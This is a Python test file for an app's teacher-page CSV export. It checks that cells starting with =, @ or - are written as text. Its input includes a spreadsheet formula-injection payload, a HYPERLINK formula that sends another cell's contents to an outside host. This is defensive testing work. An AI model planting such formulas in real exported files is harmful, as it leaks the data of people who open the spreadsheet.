"""The teacher page's CSV download writes formula-looking cells as text (issue 12, F4)."""

from __future__ import annotations

import csv
from datetime import timezone

from appliance.asklog.review import ReviewRow
from ui.teacher_log import write_csv


def test_teacher_csv_download_writes_formulas_as_text(tmp_path):
    question = '=HYPERLINK("http://x/?"&A2,"answer")'
    row = ReviewRow(1, "2026-01-01T00:00:00.000Z", "text", question, "@ocr", None, None, None, None,
                    0.1, True, None, "pending", "=teacher", "-client")
    path = write_csv([row], timezone.utc, tmp_path / "exports")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        written = list(csv.reader(fh))[1]
    assert {"'" + question, "'@ocr", "'=teacher", "'-client"} <= set(written)
